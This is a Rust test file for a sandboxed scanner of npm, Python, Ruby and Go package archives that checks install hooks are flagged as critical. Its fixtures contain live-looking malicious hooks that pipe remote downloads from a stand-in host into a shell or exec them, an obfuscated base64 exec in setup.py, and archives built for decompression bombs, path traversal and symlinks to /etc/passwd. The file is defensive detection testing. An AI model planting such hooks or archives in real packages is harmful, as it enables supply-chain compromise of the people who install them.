//! Archives that the ordinary clients make, read in the sandbox. This program is its own child.
#![expect(clippy::unwrap_used, reason = "tests")]
#![expect(clippy::print_stdout, reason = "a skipped test is shown")]

use std::path::Path;
use std::process::{Command, ExitCode};

use libtest_mimic::{Arguments, Trial};
use sandbox::{Bounds, Sandbox};
use serde_json::Value;

/// As in the product: it reserves address space before any limit can be set.
#[global_allocator]
static ALLOCATOR: mimalloc::MiMalloc = mimalloc::MiMalloc;

/// Name and code of a test.
type Test = (&'static str, fn());

fn main() -> ExitCode {
    sandbox::enter_if_asked(&context::sandbox_tasks());
    let tests: [Test; 7] = [
        ("a_package_of_npm_is_read", npm),
        ("a_source_distribution_of_setuptools_is_read", sdist),
        ("a_wheel_that_starts_with_python_is_read", wheel),
        ("a_gem_is_read_with_the_script_that_builds_it", gem),
        ("a_module_of_go_is_read", module),
        ("an_archive_with_two_entries_of_one_name_is_ambiguous", ambiguous),
        ("hostile_archives_end_with_a_reason", hostile),
    ];
    let trials = tests.into_iter().map(|(name, test)| {
        Trial::test(name, move || {
            test();
            Ok(())
        })
    });
    libtest_mimic::run(&Arguments::from_args(), trials.collect()).exit_code()
}

/// Contents of an archive by the sandbox, or the reason, which must be those of the same code outside of it.
fn read(archive: &[u8]) -> Result<Value, String> {
    let assignment = [b"{\"depth\":\"whole\"}\n", archive].concat();
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    let task = context::sandbox_tasks().into_iter().find(|task| task.name == "context.package").unwrap();
    let sandbox = Sandbox::new(Bounds { running: 1, waiting: 0 });
    let reply = runtime.block_on(sandbox.run(&task, &assignment)).unwrap();
    assert_eq!(reply, context::read_package(&assignment), "equal input gives equal bytes");
    serde_json::from_slice(&reply).unwrap()
}

/// Runs a program; none, with a line of output, where it is missing or fails.
fn run(command: &mut Command) -> Option<()> {
    match command.output() {
        Ok(output) if output.status.success() => Some(()),
        other => {
            println!("skipped: {command:?}: {other:?}");
            None
        }
    }
}

fn python() -> String {
    std::env::var("PALISADE_TEST_PYTHON").unwrap_or_else(|_| "python3".to_owned())
}

/// Builds an archive in a folder with files; the archive is the only file below `out`.
fn built(files: &[(&str, &str)], command: &mut Command, out: &str) -> Option<Vec<u8>> {
    let folder = tempfile::tempdir().unwrap();
    for (path, text) in files {
        let path = folder.path().join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
    std::fs::create_dir_all(folder.path().join(out)).unwrap();
    run(command.current_dir(folder.path()))?;
    Some(only_file(&folder.path().join(out)))
}

fn only_file(folder: &Path) -> Vec<u8> {
    let files = std::fs::read_dir(folder).unwrap().map(|file| file.unwrap().path());
    let mut files = files.filter(|path| path.is_file());
    std::fs::read(files.next().unwrap()).unwrap()
}

/// Runs a script of Python that writes an archive below `out`.
fn scripted(files: &[(&str, &str)], script: &str) -> Option<Vec<u8>> {
    built(files, Command::new(python()).args(["-c", script]), "out")
}

/// Severities of the chains with a rule.
fn severities(contents: &Value, is_early: bool) -> Vec<&str> {
    let chains = contents["chains"].as_array().unwrap().iter();
    chains
        .filter(|chain| chain["is_early"] == is_early)
        .map(|chain| chain["severity"].as_str().unwrap())
        .collect()
}

fn npm() {
    let files = [
        (
            "package.json",
            r#"{"name": "widgets", "version": "1.0.0", "scripts": {"preinstall": "node setup.js"}}"#,
        ),
        ("setup.js", "require('child_process').exec('curl -s https://collect.example.dev/x | sh')\n"),
        ("README.md", "# widgets\n"),
    ];
    let mut pack = Command::new("npm");
    pack.args(["pack", "--offline", "--pack-destination", "out"]);
    let Some(archive) = built(&files, &mut pack, "out") else { return };
    let contents = read(&archive).unwrap();
    assert_eq!(contents["hooks"], serde_json::json!(["preinstall"]), "{contents}");
    assert!(severities(&contents, true).contains(&"critical"), "{contents}");
    assert_eq!(contents["passages"][0]["name"], "README.md");
}

fn ambiguous() {
    let script = |second: &str| {
        format!(
            "import zipfile\nz = zipfile.ZipFile('out/w-1.0-py3-none-any.whl', 'w')\nz.writestr('w.py', 'a = 1')\nz.writestr('{second}', 'a = 2')\nz.close()\n"
        )
    };
    for (second, expected) in [("w.py", true), ("x.py", false)] {
        let Some(archive) = scripted(&[("a", "")], &script(second)) else { return };
        assert_eq!(read(&archive).unwrap()["is_ambiguous"], expected, "{second}");
    }
}

fn sdist() {
    let setup = "import base64\nfrom setuptools import setup\nexec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgiaWQiKQo='))\n\
        setup(name='widgets', version='1.0', py_modules=['widgets'])\n";
    let files = [("setup.py", setup), ("widgets.py", "VALUE = 1\n"), ("README.md", "Widgets.\n")];
    let mut command = Command::new(python());
    command.args(["setup.py", "-q", "sdist"]);
    let Some(archive) = built(&files, &mut command, "dist") else { return };
    let contents = read(&archive).unwrap();
    assert_eq!(contents["hooks"], serde_json::json!(["setup.py"]), "{contents}");
    assert!(severities(&contents, true).contains(&"critical"), "{contents}");
}

const WHEEL: &str = r#"
import zipfile
with zipfile.ZipFile("out/widgets-1.0-py3-none-any.whl", "w") as wheel:
    wheel.writestr("widgets/__init__.py", "VALUE = 1\n")
    wheel.writestr("widgets.pth", "import urllib.request; exec(urllib.request.urlopen('https://collect.example.dev/x').read())\n")
    wheel.writestr("widgets-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: widgets\nVersion: 1.0\n\nWidgets.\n")
"#;

fn wheel() {
    let Some(archive) = scripted(&[], WHEEL) else { return };
    let contents = read(&archive).unwrap();
    assert_eq!(contents["hooks"], serde_json::json!(["widgets.pth"]), "{contents}");
    assert!(severities(&contents, true).contains(&"critical"), "{contents}");
    assert_eq!(contents["is_ambiguous"], false);
}

/// The form of RubyGems: a tar archive of compressed parts.
const GEM: &str = r#"
import gzip, io, tarfile
def packed(files, mode):
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode) as archive:
        for name, text in files:
            info = tarfile.TarInfo(name)
            info.size = len(text)
            archive.addfile(info, io.BytesIO(text))
    return buffer.getvalue()
extconf = b"require 'mkmf'\nrequire 'open-uri'\neval(URI.open('https://collect.example.dev/x').read)\ncreate_makefile('widgets')\n"
data = packed([("lib/widgets.rb", b"VALUE = 1\n"), ("ext/widgets/extconf.rb", extconf)], "w:gz")
parts = [("metadata.gz", gzip.compress(b"--- !ruby/object:Gem::Specification\nname: widgets\n")), ("data.tar.gz", data),
         ("checksums.yaml.gz", gzip.compress(b"---\n"))]
open("out/widgets-1.0.gem", "wb").write(packed(parts, "w"))
"#;

fn gem() {
    let Some(archive) = scripted(&[], GEM) else { return };
    let contents = read(&archive).unwrap();
    assert_eq!(contents["hooks"], serde_json::json!(["ext/widgets/extconf.rb"]), "{contents}");
    assert!(severities(&contents, true).contains(&"critical"), "{contents}");
}

const MODULE: &str = r#"
import zipfile
with zipfile.ZipFile("out/widgets.zip", "w") as module:
    module.writestr("example.com/acme/widgets@v1.0.0/go.mod", "module example.com/acme/widgets\n")
    module.writestr("example.com/acme/widgets@v1.0.0/widgets.go", '''package widgets

import "os/exec"

func init() {
	exec.Command("sh", "-c", "curl -s https://collect.example.dev/x | sh").Run()
}
''')
"#;

fn module() {
    let Some(archive) = scripted(&[], MODULE) else { return };
    let contents = read(&archive).unwrap();
    assert!(severities(&contents, true).contains(&"critical"), "{contents}");
    let detail = contents["chains"][0]["detail"].as_str().unwrap();
    assert!(detail.contains("(widgets.go line 6)"), "without the folder of the module: {detail}");
}

const HOSTILE: [(&str, &str); 5] = [
    ("bomb", "import gzip; open('out/a', 'wb').write(gzip.compress(bytes(300 << 20), 9))"),
    (
        "tar of zeros",
        "import io, tarfile\nwith tarfile.open('out/a', 'w:gz') as archive:\n    info = tarfile.TarInfo('a.js'); info.size = 200 << 20\n    archive.addfile(info, io.BytesIO(bytes(info.size)))",
    ),
    ("not an archive", "open('out/a', 'wb').write(b'hello' * 100)"),
    ("cut", "import gzip; open('out/a', 'wb').write(gzip.compress(bytes(range(256)) * 100)[:80])"),
    (
        "links and paths",
        "import io, tarfile\nwith tarfile.open('out/a', 'w:gz') as archive:\n    info = tarfile.TarInfo('../../etc/cron.d/a'); info.size = 3\n    archive.addfile(info, io.BytesIO(b'abc'))\n    link = tarfile.TarInfo('a.js'); link.type = tarfile.SYMTYPE; link.linkname = '/etc/passwd'\n    archive.addfile(link)",
    ),
];

fn hostile() {
    for (name, script) in HOSTILE {
        let Some(archive) = scripted(&[], script) else { return };
        match read(&archive) {
            Err(reason) => assert!(reason.starts_with("the archive "), "{name}: {reason}"),
            Ok(contents) => {
                assert_eq!(contents["files"], 0, "{name}: {contents}");
                assert!(!contents["skipped"].as_array().unwrap().is_empty(), "{name}: {contents}");
            }
        }
    }
    let twice = "import zipfile\nwith zipfile.ZipFile('out/a', 'w') as archive:\n    archive.writestr('a.js', 'one()')\n    archive.writestr('a.js', 'two()')";
    if let Some(archive) = scripted(&[], twice) {
        assert_eq!(read(&archive).unwrap()["is_ambiguous"], true);
    }
}
